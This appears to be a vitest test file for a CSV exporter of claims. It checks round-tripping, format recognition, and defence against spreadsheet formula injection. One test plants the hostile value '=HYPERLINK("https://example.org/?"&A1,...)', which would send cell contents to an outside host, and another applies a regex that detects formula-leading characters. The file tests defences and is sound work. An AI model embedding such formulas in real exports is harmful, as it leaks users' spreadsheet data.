/** The flat table of claims: safe in a spreadsheet, and back again. */
import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Dossier } from '../../src/core/schema.ts'
import { claimsCsv } from '../../src/formats/claims-csv.ts'
import { scanRows } from '../../src/formats/csv/scan-rows.ts'
import { arbitraryDossier } from '../fixtures/arbitrary-dossier.ts'
import { checkRecognised, checkRoundTrip } from './check-round-trip.ts'
import { readFiles, writeText } from './write-text.ts'

const golden = readFileSync(new URL('../fixtures/golden/small.claims.csv', import.meta.url), 'utf8')
const small = JSON.parse(readFileSync(new URL('../fixtures/small-dossier.json', import.meta.url), 'utf8')) as Dossier

it('gives back what it does not declare to lose', () => checkRoundTrip(claimsCsv))

it('is taken for what it is', () => checkRecognised(claimsCsv))

it('writes the golden file, and recognises it', () => {
  expect(writeText(claimsCsv, small)).toBe(golden)
  expect(claimsCsv.recognises?.(golden)).toBe(true)
  expect(claimsCsv.recognises?.(golden.replaceAll(',', ';'))).toBe(true)
  expect(claimsCsv.recognises?.('Number,Subject\n')).toBe(false)
})

describe('in a spreadsheet', () => {
  it('has no cell that could be computed, numbers apart', () => {
    fc.assert(fc.property(arbitraryDossier(), (dossier) => {
      const [header, ...rows] = [...scanRows(writeText(claimsCsv, dossier), ',')]
      for (const { cells } of rows) {
        expect(cells).toHaveLength(header?.count ?? 0)
        for (const cell of cells) expect(cell).not.toMatch(/^[=+@＝＋－＠\t\r\n]|^-(?!\d+(\.\d+)?$)/)
      }
    }), { numRuns: 60 })
  })

  it('shows formulas as they were meant, and gives them back', () => {
    const hostile = structuredClone(small)
    const [entity] = hostile.entities
    if (entity) entity.label.en = '=HYPERLINK("https://example.org/?"&A1,"Varn")'
    const text = writeText(claimsCsv, hostile)
    expect(text).toContain(',"\'=HYPERLINK(""https://example.org/?""&A1,""Varn"")",')
    expect(readFiles(claimsCsv, text).dossier?.entities.find(({ id }) => id === 'varn')?.label.en).toBe(entity?.label.en)
  })

  it('may be sorted, moved about and annotated, and still be read', () => {
    const rows = [...scanRows(golden, ',')].map(({ cells }) => [...cells].reverse())
    const [header = [], ...others] = rows
    const shown = [['My remarks', ...header], ...others.reverse().map((row) => ['seen', ...row])]
      .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(';')).join('\r\n')
    const { dossier, issues } = readFiles(claimsCsv, shown)
    expect(dossier?.articles[0]?.claims.map(({ id }) => id).sort()).toStrictEqual(['c1', 'c2', 'c3'])
    expect(issues.map(({ code, args }) => [code, args])).toStrictEqual([['field-left-out', { field: 'My remarks', count: 3 }]])
  })
})

it.each([
  ['denied', 'asserted denied'], ['Planned', 'planned affirmed'], ['planned,denied', 'planned denied'], ['planned; denied', 'planned denied'],
  ['reported, Denied', 'reported denied'], ['démenti', 'asserted denied'], ['hedgy', 'alleged affirmed'], ['', 'asserted affirmed'],
])('reads the firmness %j that somebody wrote as %s', (words, voice) => {
  const { dossier, issues } = readFiles(claimsCsv, golden.replace(',asserted,', `,"${words}",`))
  const claim = dossier?.articles[0]?.claims.find(({ id }) => id === 'c1')
  expect(`${claim?.modality} ${claim?.polarity}`).toBe(voice)
  expect(issues.some(({ code }) => code === 'voice-unreadable')).toBe(words === 'hedgy')
})

it('says what is missing from a table of somebody else', () => {
  expect(readFiles(claimsCsv, 'source,target\na,b\n').issues).toMatchObject([
    { code: 'not-this-format', args: { format: 'claims-csv', missing: 'Claim id' } },
  ])
})
